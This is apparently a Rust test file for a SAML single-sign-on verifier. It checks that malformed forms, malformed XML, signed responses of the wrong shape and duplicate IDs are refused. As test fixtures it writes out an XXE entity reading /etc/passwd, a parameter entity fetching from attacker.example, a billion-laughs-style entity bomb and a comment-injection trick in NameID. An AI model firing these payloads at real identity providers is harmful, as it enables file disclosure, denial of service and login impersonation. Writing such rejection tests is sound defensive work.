//! Form, syntax and shape.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use domain::sso::Check;
use saml::{SamlVerifier as _, Verifier};

use crate::support::response::{NAME_ID, Signed, changed, good, part, sign, unsigned};
use crate::support::sign::Signer;
use crate::support::{form, form_of, idp, now, pending, refused, report, sp};

use super::{BOTH_WAYS, all_refused};

#[test]
fn a_form_with_no_or_two_messages_is_refused() {
    let good = String::from_utf8(form(&good())).unwrap();
    let (message, _) = good.split_once('&').unwrap();
    for (case, form) in [
        ("empty", String::new()),
        ("another field", message.replace("SAMLResponse", "SAMLRequest")),
        ("twice", format!("{message}&{message}")),
        ("not Base64", message.replacen("SAMLResponse=", "SAMLResponse=_", 1)),
        ("blanks in it", message.replacen("SAMLResponse=", "SAMLResponse=+", 1)),
        ("cut", message[..message.len() - 3].to_owned()),
    ] {
        let report = Verifier.verify(&sp(), &idp(), Some(&pending()), form.as_bytes(), now());
        refused(case, Check::Form, &report);
    }
    let utf16: Vec<u8> = unsigned().encode_utf16().flat_map(u16::to_be_bytes).collect();
    let form = form_of(&STANDARD.encode([&b"\xfe\xff"[..], &utf16].concat()));
    refused("UTF-16", Check::Form, &Verifier.verify(&sp(), &idp(), Some(&pending()), &form, now()));
}

#[test]
fn xml_that_readers_differ_on_is_refused() {
    for (case, from, to) in [
        ("a comment in NameID", NAME_ID, "ada@contoso.example<!-- -->.attacker.example"),
        ("CDATA in NameID", NAME_ID, "<![CDATA[ada@contoso.example]]>"),
        ("a processing instruction in NameID", NAME_ID, "ada@contoso.example<?x y?>"),
        ("a comment elsewhere", "<samlp:Status>", "<samlp:Status><!-- -->"),
        ("a stylesheet", "<samlp:Response ", "<?xml-stylesheet href='x'?><samlp:Response "),
        ("U+2028", NAME_ID, "ada\u{2028}@contoso.example"),
        ("U+0085", NAME_ID, "ada\u{85}@contoso.example"),
        ("a reference to a control character", NAME_ID, "ada&#x85;@contoso.example"),
    ] {
        // Signed over what a reader without the strange thing sees, and over what one with it sees.
        let strange = unsigned().replacen(from, to, 1);
        for signed in BOTH_WAYS {
            refused(case, Check::Xml, &report(&sign(&strange, signed, &Signer::default())));
            let after = sign(&unsigned(), signed, &Signer::default()).replacen(from, to, 1);
            refused(case, Check::Xml, &report(&after));
        }
    }
}

#[test]
fn document_types_and_entities_are_refused() {
    let bomb = r#"<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>"#;
    let outside = r#"<!DOCTYPE r [<!ENTITY c SYSTEM "file:///etc/passwd">]>"#;
    let parameter = r#"<!DOCTYPE r [<!ENTITY % c SYSTEM "https://attacker.example/x">%c;]>"#;
    for (case, prolog, name) in [
        ("DOCTYPE", "<!DOCTYPE r>", NAME_ID),
        ("an entity", r#"<!DOCTYPE r [<!ENTITY c "ada">]>"#, "&c;@contoso.example"),
        ("a bomb of entities", bomb, "&c;"),
        ("an entity from outside", outside, "&c;"),
        ("a parameter entity", parameter, NAME_ID),
        ("an entity that nobody declared", "", "&c;@contoso.example"),
    ] {
        let xml = format!("{prolog}{}", good().replacen(NAME_ID, name, 1));
        refused(case, Check::Xml, &report(&xml));
    }
}

#[test]
fn xml_that_is_not_well_formed_is_refused() {
    for (case, xml) in [
        ("nothing", String::new()),
        ("no XML", "hello".to_owned()),
        ("cut", good()[..1_000].to_owned()),
        ("two roots", format!("{0}{0}", good())),
        ("text after it", format!("{}x", good())),
        ("another version", format!("<?xml version=\"1.1\"?>{}", good())),
        ("another encoding", format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{}", good())),
        ("a prefix without a namespace", good().replacen("<saml:Subject>", "<x:Subject>", 1)),
        ("an attribute twice", good().replacen(" ID=\"_a1\"", " ID=\"_a1\" ID=\"_a1\"", 1)),
    ] {
        refused(case, Check::Xml, &report(&xml));
    }
}

#[test]
fn another_message_than_a_response_is_refused() {
    let good = good();
    let assertion = crate::support::response::assertion_of(&good);
    refused("a bare assertion", Check::Shape, &report(assertion));
    for root in ["LogoutResponse", "ArtifactResponse", "AuthnRequest", "response"] {
        let xml = unsigned().replace("samlp:Response", &format!("samlp:{root}"));
        for signed in BOTH_WAYS {
            refused(root, Check::Shape, &report(&sign(&xml, signed, &Signer::default())));
        }
    }
    let other = unsigned().replace("SAML:2.0:protocol", "SAML:1.0:protocol");
    refused("SAML 1.0", Check::Shape, &report(&sign(&other, Signed::Response, &Signer::default())));
    all_refused(
        Check::Shape,
        &[("a Response of another version", r#"ID="_r1" Version="2.0""#, r#"ID="_r1" Version="2.1""#)],
    );
    let xml = changed(r#"ID="_a1" Version="2.0""#, r#"ID="_a1" Version="1.1""#);
    refused("an assertion of another version", Check::Shape, &report(&xml));
}

#[test]
fn another_shape_is_refused_even_when_it_is_signed() {
    let subject = part(&unsigned(), "<saml:Subject>", "</saml:Subject>").to_owned();
    let name = part(&unsigned(), "<saml:NameID ", "</saml:NameID>").to_owned();
    let conditions = part(&unsigned(), "<saml:Conditions ", "</saml:Conditions>").to_owned();
    let statement = part(&unsigned(), "<saml:AuthnStatement ", "</saml:AuthnStatement>").to_owned();
    let twice = |part: &str| format!("{part}{part}");
    all_refused(
        Check::Shape,
        &[
            ("no subject", &subject, ""),
            ("two subjects", &subject, &twice(&subject)),
            ("no NameID", &name, ""),
            ("two NameIDs", &name, &twice(&name)),
            ("an element in NameID", NAME_ID, "<saml:x>ada@contoso.example</saml:x>"),
            ("an attribute in the assertion that is not known", r#"ID="_a1""#, r#"ID="_a1" x="y""#),
            ("no conditions", &conditions, ""),
            ("two conditions", &conditions, &twice(&conditions)),
            ("a condition that nobody knows", "</saml:Conditions>", "<saml:Condition/></saml:Conditions>"),
            ("no AuthnStatement", &statement, ""),
            ("holder of key", "cm:bearer", "cm:holder-of-key"),
            ("sender vouches", "cm:bearer", "cm:sender-vouches"),
            ("advice", "<saml:AuthnStatement ", "<saml:Advice/><saml:AuthnStatement "),
            ("extensions", "<samlp:Status>", "<samlp:Extensions/><samlp:Status>"),
            ("an element of another namespace", "<samlp:Status>", r#"<x xmlns="urn:x"/><samlp:Status>"#),
            ("text between elements", "<samlp:Status>", "x<samlp:Status>"),
            ("an element in a value", ">Everyone<", "><saml:NameID>x</saml:NameID><"),
            ("a relative namespace", r#"ID="_a1""#, r#"xmlns:x="relative" ID="_a1""#),
            ("an empty namespace", "<saml:AttributeValue>", r#"<saml:AttributeValue xmlns="">"#),
            ("a day that does not exist", "2026-12-01T10:55:00Z", "2026-12-41T10:55:00Z"),
            ("a time that is not UTC", "2026-12-01T10:55:00Z", "2026-12-01T10:55:00+00:00"),
            ("a time with ten digits", "2026-12-01T10:55:00Z", "2026-12-01T10:55:00.1234567890Z"),
            ("the last second of time", "2026-12-01T10:55:00Z", "9999-12-31T23:59:59Z"),
            ("before 1970", "2026-12-01T09:55:00Z", "0001-01-01T00:00:00Z"),
            ("a time with a sign", "2026-12-01T09:55:00Z", "-2026-12-01T09:55:00Z"),
        ],
    );
}

#[test]
fn ids_are_there_once_and_without_a_namespace() {
    all_refused(
        Check::Shape,
        &[
            ("an ID with a namespace", r#"ID="_a1""#, r#"ID="_a1" xmlns:x="urn:x" x:ID="_x""#),
            ("xml:id", r#"ID="_a1""#, r#"ID="_a1" xml:id="_x""#),
            ("ID in another spelling", "<samlp:Status>", r#"<samlp:Status Id="_a1">"#),
            ("an empty ID", "<samlp:Status>", r#"<samlp:Status id="">"#),
        ],
    );
    let xml = good().replacen(r#"ID="_r1""#, r#"ID="_a1""#, 1);
    refused("the same ID twice", Check::Shape, &report(&xml));
    let xml = good().replacen("<ds:Signature ", r#"<ds:Signature Id="_a1" "#, 1);
    refused("the assertion's ID on its signature", Check::Shape, &report(&xml));
}
